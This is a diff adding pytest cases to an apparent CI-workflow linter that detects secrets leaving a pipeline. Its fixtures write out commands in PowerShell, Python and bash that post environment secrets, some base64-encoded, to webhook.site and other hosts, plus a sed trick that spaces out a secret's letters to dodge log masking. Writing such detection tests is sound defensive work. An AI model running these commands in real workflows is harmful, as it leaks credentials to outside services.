@@ -172,3 +172,33 @@ SECRET = "      - run: echo 'K=${{ secrets.K }}' > conf/app.env\n"
 )
 def test_credentials_that_are_stored(tmp_path: Path, steps: str, found: bool) -> None:
     assert ("credentials-in-artifact" in rules(tmp_path, steps)) is found
+
+
+@pytest.mark.parametrize(
+    ("shell", "script", "rule"),
+    [
+        ("pwsh", "iwr https://a.webhook.site/1 -Method Post -Body $env:KEY", "secret-sent-to-other-service"),
+        ("pwsh", 'irm https://in.example.io -Headers @{ A = "Bearer ${env:GH}" }', "token-sent-to-other-host"),
+        ("python", "requests.post('https://a.webhook.site/1', data=os.environ['KEY'])", "secret-sent-to-other-service"),
+        ("bash", 'x=$(echo "$KEY" | base64); curl -d "$x" https://a.webhook.site/1', "secret-sent-to-other-service"),
+    ],
+)
+def test_secrets_leave_by_other_shells_and_in_other_forms(tmp_path: Path, shell: str, script: str, rule: str) -> None:
+    assert rule in rules(tmp_path, f"      - shell: {shell}\n        run: |\n          {script}\n{ENV}")
+
+
+@pytest.mark.parametrize(
+    ("shell", "script"),
+    [
+        ("pwsh", 'irm https://api.github.com/user -Headers @{ A = "Bearer $env:GH" }'),
+        ("bash", 'x=$(curl -H "A: $KEY" https://api.example.com); curl -d "$x" https://a.webhook.site/1'),
+    ],
+)
+def test_tokens_for_github_and_answers_of_a_service_are_no_leak(tmp_path: Path, shell: str, script: str) -> None:
+    found = rules(tmp_path, f"      - shell: {shell}\n        run: |\n          {script}\n{ENV}")
+    assert found.isdisjoint({"secret-sent-to-other-service", "token-sent-to-other-host"})
+
+
+def test_a_secret_with_spaces_between_its_letters_is_not_masked(tmp_path: Path) -> None:
+    assert "secret-printed-encoded" in of_script(tmp_path / "a", "echo \"$KEY\" | sed 's/./& /g'")
+    assert "secret-printed-encoded" not in of_script(tmp_path / "b", "echo \"$KEY\" | sed 's/^v//'")
